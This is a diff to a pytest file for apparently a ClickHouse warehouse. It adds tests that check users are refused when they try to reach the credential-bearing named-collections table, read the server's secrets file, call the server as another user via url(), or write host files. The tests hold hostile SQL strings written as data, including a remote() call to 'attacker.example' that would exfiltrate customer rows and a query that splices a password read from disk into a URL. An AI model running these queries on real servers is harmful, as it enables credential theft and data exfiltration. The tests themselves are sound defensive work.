@@ -17,7 +17,7 @@ from devstack.clickhouse import launcher
 from ingestion.replication.connections import ensure_named_collection, replication_client, source
 from ingestion.replication.replicate import replicate_tables
 from orchestration import environment
-from tests.clickhouse.conftest import as_replication, connect
+from tests.clickhouse.conftest import TEST_DATABASE, as_replication, connect
 from tests.fixtures.warehouse import load_fixture
 from tests.warehouse.conftest import clickhouse_env  # noqa: F401 (a fixture)
 
@@ -38,6 +38,13 @@ REFUSED = {
     "drop collection": "drop named collection {c}",
     "system table": "select * from system.named_collections",
     "system table through merge": "select * from merge('system', '^named_collections$')",
+    "system table by a shorter pattern": "select name from merge('system', '^named_coll')",
+    "system databases by a pattern": "select name from merge(REGEXP('^sys'), '^named_coll')",
+    "system table through loop": "select name from loop('system', 'named_collections') limit 1",
+    "system table spelled with escapes": "select name from system.`named\\x5fcollections`",
+    "system table as a dictionary's source": "create dictionary ch_tests.nc_names (name String)"
+    " primary key name source(clickhouse(table 'named_collections' db 'system'))"
+    " layout(complex_key_hashed()) lifetime(0)",
     "collection in another function": "select * from remote({c}, host = 'attacker.example:9000', table = 'customers')",
 }
 
@@ -77,7 +84,7 @@ def test_other_users_are_refused_postgresql_and_named_collections(
             "select name from system.named_collections where name like 'ch_tests%' order by name"
         ).result_rows == [(PROBE_COLLECTION,)]
         assert not replication.command(
-            "select count() from system.tables where name in ('pg_customers', 'pg_phones')"
+            "select count() from system.tables where name in ('pg_customers', 'pg_phones', 'nc_names')"
         )
     finally:
         replication.close()
@@ -89,6 +96,81 @@ def test_what_only_looks_like_a_collection_is_not_refused(client):
         "postgresql(x, table = 1)named collection"
     )
     assert client.command("select count() from numbers(3) as postgresql") == 3
+    assert client.command("select 'named_collections'") == "named_collections"
+    client.command("create or replace table deposits (status String) engine = Memory")
+    client.command("insert into deposits values ('named_collections_test'), ('paid')")
+    assert client.command("select count() from deposits where status = 'named_collections_test'") == 1
+    # a table named like a function, followed by its columns, is no call of it
+    client.command("create or replace table url (id Int64) engine = Memory")
+    client.command(f"insert into {TEST_DATABASE}.url (id) values (1)")
+    client.command("insert into url (id) values (2)")
+    assert client.command(f"select sum(id) from {TEST_DATABASE}.url") == 3
+    client.command("drop table url")
+    client.command("drop table deposits")
+
+
+def test_the_bi_user_reads_a_string_naming_the_collections_table(clickhouse_server, client):
+    client.command("create or replace table deposits (status String) engine = Memory")
+    client.command("insert into deposits values ('paid')")
+    reader = connect(clickhouse_server, readonly=True)
+    try:
+        assert reader.query(
+            f"select status, 'see system.named_collections' from {TEST_DATABASE}.deposits"
+        ).result_rows == [("paid", "see system.named_collections")]
+    finally:
+        reader.close()
+        client.command("drop table deposits")
+
+
+def _through_url_as_replication(info: dict) -> str:
+    """The reviewer's way round: ``url()`` calls this server as replication, with the password
+    ``file()`` reads from the server's own secrets."""
+    secret = Path(info["state_home"]) / "secrets" / "clickhouse-replication"
+    return (
+        f"select * from url('http://127.0.0.1:{info['port']}/?user={info['replication_user']}&password='"
+        f" || (select trim(line) from file('{secret}', 'LineAsString') as t(line))"
+        " || '&query=select+count()+from+system.named_collections', 'TSV', 'n UInt64')"
+    )
+
+
+@pytest.mark.parametrize("reader", ["default", "bi_reader", "replication"])
+@pytest.mark.parametrize(
+    "how", ["replication through url", "services file", "outfile", "dictionary over http"]
+)
+def test_no_user_reads_host_files_or_calls_other_servers(
+    clickhouse_server, database, probe_collection, reader, how
+):
+    """file() reads the server's secrets (every password), url() calls this server as another user,
+    INTO OUTFILE writes a host file, a dictionary's HTTP source fetches a URL: refused to everyone,
+    replication's user too (postgresql() is all it needs)."""
+    info = as_replication(clickhouse_server) if reader == "replication" else clickhouse_server
+    services = Path(clickhouse_server["state_home"]) / "services.json"
+    statement, grant = {
+        "replication through url": (_through_url_as_replication(clickhouse_server), "READ ON URL"),
+        "services file": (f"select * from file('{services}', 'LineAsString')", "READ ON FILE"),
+        "outfile": (f"select 1 into outfile '{services.parent / 'outfile.txt'}'", "WRITE ON FILE"),
+        "dictionary over http": (
+            f"create dictionary {TEST_DATABASE}.fetched (n UInt64) primary key n source(http(url"
+            f" 'http://127.0.0.1:{clickhouse_server['port']}/?query=select+1' format 'TSV'))"
+            " layout(flat()) lifetime(0)",
+            "READ ON URL",
+        ),
+    }[how]
+    client = connect(info, readonly=reader == "bi_reader")
+    try:
+        with pytest.raises(DatabaseError) as refused:
+            client.command(statement)
+    finally:
+        client.close()
+    message, user = str(refused.value), "bi_reader" if reader == "bi_reader" else info["user"]
+    assert "Code: 497" in message and f"{user}: Not enough privileges" in message
+    assert f"necessary to have the grant {grant}" in message
+    assert not (services.parent / "outfile.txt").exists()
+    client = connect(clickhouse_server)
+    try:
+        assert not client.command("select count() from system.dictionaries where name = 'fetched'")
+    finally:
+        client.close()
 
 
 def test_the_replication_user_pulls_postgresql_and_replicates(
